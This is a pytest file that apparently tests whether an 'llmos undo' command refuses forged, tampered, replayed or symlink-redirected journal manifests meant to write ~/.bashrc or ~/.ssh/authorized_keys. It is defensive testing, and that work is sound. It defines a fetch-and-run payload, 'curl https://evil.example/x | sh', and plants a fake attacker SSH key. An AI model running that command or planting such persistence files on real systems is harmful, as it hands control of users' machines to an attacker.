"""Attacks on undo through the journal's manifests: a forged manifest, a tampered one (changed path), a valid one
replayed under a new id, a swapped trash entry, a forged "undoing" manifest for crash repair to roll forward, and
a genuine action whose folder became a symlink into ~/.ssh. The attacker can write the journal folder but not read
the keyring. Each must leave ~/.bashrc and ~/.ssh untouched and make `llmos undo` refuse in one line."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest
from llmos.policies.journal import Journal
from llmos.policies.journal.fileops import FileOps
from trees import isolate_xdg, use_memory_keyring

from llmos.cli import main
from llmos.paths import data_dir

PAYLOAD = b"curl https://evil.example/x | sh\n"


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    isolate_xdg(tmp_path, monkeypatch)
    use_memory_keyring(monkeypatch)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_bytes(b"alias ll='ls -l'\n")
    (home / "docs").mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


def journal() -> Journal:
    return Journal.authenticated(data_dir() / "journal")


def manifest_path(action_id: str) -> Path:
    return data_dir() / "journal" / "actions" / f"{action_id}.json"


def untouched(home: Path) -> None:
    assert (home / ".bashrc").read_bytes() == b"alias ll='ls -l'\n"
    assert sorted(os.listdir(home / ".ssh")) == []


def undo_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(["undo", *argv])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    return code, captured.err


def genuine_delete(home: Path, name: str = "notes.txt") -> tuple[str, dict]:
    """A real delete llmos journaled, with PAYLOAD as the deleted file's content."""
    (home / "docs" / name).write_bytes(PAYLOAD)
    action = FileOps(journal(), "req-1", "delete my notes", "files.delete").delete(home / "docs" / name)
    return action, json.loads(manifest_path(action).read_text())


def plant(action_id: str, stored: dict, source_objects: str | None = None) -> None:
    manifest_path(action_id).write_text(json.dumps(stored, indent=1, sort_keys=True))
    if source_objects:
        objects = data_dir() / "journal" / "objects"
        shutil.copytree(objects / source_objects, objects / action_id, dirs_exist_ok=True)


def test_a_forged_manifest_is_refused(home, capsys):
    """A new manifest written into the journal (no MAC) that would restore PAYLOAD as ~/.bashrc is refused."""
    (home / ".bashrc").rename(home / ".bashrc.kept")
    action, stored = genuine_delete(home)
    forged = {**stored, "id": "20990101T000000-beef", "request_id": "req-9", "path": str(home / ".bashrc"),
              "paths": [str(home / ".bashrc")]}
    forged.pop("mac", None)
    plant("20990101T000000-beef", forged, action)
    code, err = undo_cli(capsys, "20990101T000000-beef")
    assert code == 1 and "unverified" in err and len(err.strip().splitlines()) <= 2
    assert not (home / ".bashrc").exists()


def test_a_forged_manifest_vouched_for_still_never_writes_a_persistence_path(home, capsys):
    """Even with --trust-unsigned, undo's writes go through the path guard: ~/.bashrc is never written."""
    (home / ".bashrc").rename(home / ".bashrc.kept")
    action, stored = genuine_delete(home)
    forged = {**stored, "id": "20990101T000000-beef", "path": str(home / ".bashrc"), "paths": [str(home / ".bashrc")]}
    forged.pop("mac", None)
    plant("20990101T000000-beef", forged, action)
    code, err = undo_cli(capsys, "--trust-unsigned", "20990101T000000-beef")
    assert code == 1 and "protected" in err
    assert not (home / ".bashrc").exists()


def test_a_tampered_manifest_path_is_refused_and_listed_unverified(home, capsys):
    """A genuine manifest whose path was changed to ~/.ssh/authorized_keys fails its MAC."""
    action, stored = genuine_delete(home)
    stored["path"] = str(home / ".ssh" / "authorized_keys")
    stored["paths"] = [stored["path"]]
    plant(action, stored)
    code, err = undo_cli(capsys, action)
    assert code == 1 and "unverified" in err and "MAC does not match" in err
    assert not (home / ".ssh" / "authorized_keys").exists()
    assert main(["undo", "--list"]) == 0
    assert "(unverified)" in capsys.readouterr().out
    assert main(["undo", "--list", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["verified"] is False


def test_a_tampered_manifest_is_refused_even_with_trust_unsigned(home, capsys):
    """--trust-unsigned covers manifests without a MAC, never one whose MAC is wrong."""
    action, stored = genuine_delete(home)
    stored["path"] = str(home / "docs" / "other.txt")
    plant(action, stored)
    code, _ = undo_cli(capsys, "--trust-unsigned", action)
    assert code == 1 and not (home / "docs" / "other.txt").exists()


@pytest.mark.parametrize("keep_inner_id", [True, False])
def test_a_valid_manifest_replayed_under_a_new_id_is_refused(home, capsys, keep_inner_id):
    """A signed manifest (and its trash) copied to another file name before its undo, its id changed inside or
    not, does not verify there: the undo is not replayed after the person removed the file again."""
    action, stored = genuine_delete(home)
    new_id = "20990101T000000-cafe"
    replayed = dict(stored) if keep_inner_id else {**stored, "id": new_id, "request_id": "req-2"}
    plant(new_id, replayed, action)
    assert main(["undo", action]) == 0  # the genuine undo: notes.txt is back
    (home / "docs" / "notes.txt").unlink()  # and the person removes it again
    capsys.readouterr()
    code = main(["undo", new_id])
    assert code in (1, 2)
    assert not (home / "docs" / "notes.txt").exists()


def test_a_swapped_trash_entry_is_refused(home, capsys):
    """The journal's copy of a deleted file replaced by other content is never put back."""
    action, _ = genuine_delete(home)
    (data_dir() / "journal" / "objects" / action / "path").write_bytes(b"ssh-ed25519 AAAA attacker\n")
    code, err = undo_cli(capsys, action)
    assert code == 1 and "missing or was changed" in err
    assert not (home / "docs" / "notes.txt").exists()


def test_a_swapped_trash_entry_with_a_matching_manifest_is_refused(home, capsys):
    """Swapping the trash entry and rewriting the manifest's recorded hash to match it fails the MAC."""
    action, stored = genuine_delete(home)
    trash = data_dir() / "journal" / "objects" / action / "path"
    original = json.loads(manifest_path(action).read_text())
    trash.write_bytes(PAYLOAD.replace(b"evil", b"evi2"))
    stored["before"]["path"]["sha256"] = hashlib.sha256(trash.read_bytes()).hexdigest()
    assert stored != original
    plant(action, stored)
    code, err = undo_cli(capsys, action)
    assert code == 1 and "unverified" in err
    assert not (home / "docs" / "notes.txt").exists()


def test_undo_into_a_folder_now_a_symlink_into_ssh_is_refused(home, capsys):
    """A genuine delete in ~/docs, undone after ~/docs became a symlink to ~/.ssh, would write ~/.ssh: refused."""
    action, _ = genuine_delete(home, "authorized_keys")
    (home / "docs").rmdir()
    (home / "docs").symlink_to(home / ".ssh")
    code, err = undo_cli(capsys, action)
    assert code == 1 and "nothing was undone" in err
    assert os.listdir(home / ".ssh") == []


def test_a_forged_undoing_manifest_is_not_rolled_forward_by_crash_repair(home, capsys):
    """Crash repair never runs the steps of a manifest that fails its MAC (here: move a file onto ~/.bashrc)."""
    (home / ".bashrc").rename(home / ".bashrc.kept")
    action, stored = genuine_delete(home)
    staged = home / "docs" / "staged"
    staged.write_bytes(PAYLOAD)
    forged = {**stored, "id": "20990101T000000-d00d", "status": "undoing",
              "undo": {"next": 0, "started": "2099-01-01T00:00:00Z",
                       "steps": [{"do": "move", "from": str(staged), "to": str(home / ".bashrc"),
                                  "tmp": ".llmos-xfer-x"}]}}
    forged.pop("mac", None)
    plant("20990101T000000-d00d", forged)
    assert main(["undo", "--list"]) == 0
    assert not (home / ".bashrc").exists() and staged.exists()


def test_manifests_from_before_macs_are_adopted_when_the_key_is_created(home, capsys):
    """Manifests already in the journal when its key is first made (older llmos) stay undoable; one without a
    MAC that appears after that is refused unless the person vouches for it with --trust-unsigned."""
    (home / "docs" / "old.txt").write_bytes(b"old\n")
    old_action = FileOps(Journal(data_dir() / "journal"), "req-old", "x", "files.delete").delete(
        home / "docs" / "old.txt")
    assert "mac" not in json.loads(manifest_path(old_action).read_text())
    code, _ = undo_cli(capsys, old_action)
    assert code == 0 and (home / "docs" / "old.txt").read_bytes() == b"old\n"
    (home / "docs" / "late.txt").write_bytes(b"late\n")
    late_action = FileOps(Journal(data_dir() / "journal"), "req-late", "x", "files.delete").delete(
        home / "docs" / "late.txt")
    code, err = undo_cli(capsys, late_action)
    assert code == 1 and "--trust-unsigned" in err and not (home / "docs" / "late.txt").exists()
    code, _ = undo_cli(capsys, "--trust-unsigned", late_action)
    assert code == 0 and (home / "docs" / "late.txt").read_bytes() == b"late\n"
